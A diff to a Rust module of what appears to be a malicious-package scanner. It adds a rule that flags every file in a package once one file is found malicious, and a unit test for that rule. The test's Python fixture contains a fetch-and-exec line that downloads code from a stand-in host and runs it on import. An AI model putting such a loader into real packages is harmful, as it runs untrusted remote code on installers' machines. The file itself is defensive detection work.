@@ -3,7 +3,7 @@
 
 use std::panic::{AssertUnwindSafe, catch_unwind};
 
-use assay_manifests::{Language, Outcome, Unit, Verdict};
+use assay_manifests::{Finding, Language, Outcome, Span, Unit, Verdict};
 use assay_validators::{
     declared::{DeclaredType, types},
     flow::{engine::Definitions, ir::Module, lower::lower},
@@ -14,6 +14,9 @@ use assay_validators::{
 use rayon::prelude::*;
 
 use crate::extract::{Extracted, units, whole};
+
+/// The judge of malice, by its name.
+const MALICE: &str = "malice";
 
 /// A file to judge: path inside its artifact and text.
 pub struct Source {
@@ -89,7 +92,7 @@ pub fn judge_files(files: &[Source], about: &Surroundings<'_>, panel: &[Box<dyn 
         dependencies: &dependencies,
         ..ArtifactView::default()
     };
-    files
+    let mut rulings: Vec<Vec<Ruling>> = files
         .par_iter()
         .zip(&parsed)
         .map(|(file, (parsed, module))| {
@@ -101,7 +104,35 @@ pub fn judge_files(files: &[Source], about: &Surroundings<'_>, panel: &[Box<dyn 
             }
             judge_units(&view, extracted, panel)
         })
-        .collect()
+        .collect();
+    if about.package.is_some() {
+        condemn_company(files, &mut rulings);
+    }
+    rulings
+}
+
+/// What else stands in a package with a malicious file was written, or let in, by whoever put that file there: none of it is to learn from.
+fn condemn_company(files: &[Source], rulings: &mut [Vec<Ruling>]) {
+    let findings = |ruling: &Ruling| -> Vec<Finding> {
+        ruling.verdicts.iter().filter(|verdict| verdict.validator == MALICE).flat_map(|verdict| verdict.findings.clone()).collect()
+    };
+    let culprit = files.iter().zip(rulings.iter()).find_map(|(file, rulings)| Some((file, rulings.iter().flat_map(findings).next()?)));
+    let Some((file, finding)) = culprit else { return };
+    let message = format!("{} of this package is malicious: {} at line {}", file.path, finding.message, finding.span.line);
+    for ruling in rulings.iter_mut().flatten() {
+        let span = ruling.unit.span;
+        for verdict in ruling.verdicts.iter_mut().filter(|verdict| verdict.validator == MALICE && verdict.findings.is_empty()) {
+            verdict.outcome = Outcome::Flagged;
+            verdict.findings.push(Finding {
+                rule: format!("{MALICE}/company"),
+                cwe: finding.cwe.clone(),
+                severity: finding.severity.clone(),
+                message: message.clone(),
+                span: Span { end_line: span.line, ..span },
+                path: Vec::new(),
+            });
+        }
+    }
 }
 
 /// Parses and lowers. A lowering that panics leaves the file without a module: unjudged, not lost.
@@ -152,5 +183,39 @@ fn could_not(validator: &dyn Validator, reason: &str) -> Verdict {
         unjudged: Vec::new(),
         examined_bytes: 0,
         reason: reason.to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use assay_validators::{
+        panel::{Knowledge, PanelConfig, panel},
+        rule::RuleSet,
+    };
+
+    use super::*;
+
+    #[test]
+    fn what_stands_beside_a_malicious_file_of_a_package_falls_with_it() {
+        let source = |path: &str, text: &str| Source { path: path.to_owned(), language: Language::Python, text: text.to_owned() };
+        let files = [
+            source("a/__init__.py", "import requests as r\nexec(r.get('https://cdn.example/x').text)\n"),
+            source("a/colours.py", "def paint(text, colour):\n    return colour + text\n"),
+        ];
+        let rules = RuleSet::embedded().expect("rules load");
+        let judges = panel(&PanelConfig::default(), &rules, &Knowledge::default());
+        let said = |about: Surroundings<'_>| -> Vec<Vec<String>> {
+            let rulings = judge_files(&files, &about, &judges);
+            let findings = |rulings: &Vec<Ruling>| -> Vec<String> {
+                let verdicts = rulings.iter().flat_map(|ruling| &ruling.verdicts).filter(|verdict| verdict.validator == MALICE);
+                verdicts.flat_map(|verdict| &verdict.findings).map(|finding| finding.rule.clone()).collect()
+            };
+            rulings.iter().map(findings).collect()
+        };
+        let package = said(Surroundings { package: Some("pkg:pypi/a@1.0"), ..Surroundings::default() });
+        assert!(!package[0].is_empty() && package[1] == ["malice/company"], "{package:?}");
+        // A folder of files is not one author's.
+        let folder = said(Surroundings::default());
+        assert!(!folder[0].is_empty() && folder[1].is_empty(), "{folder:?}");
     }
 }
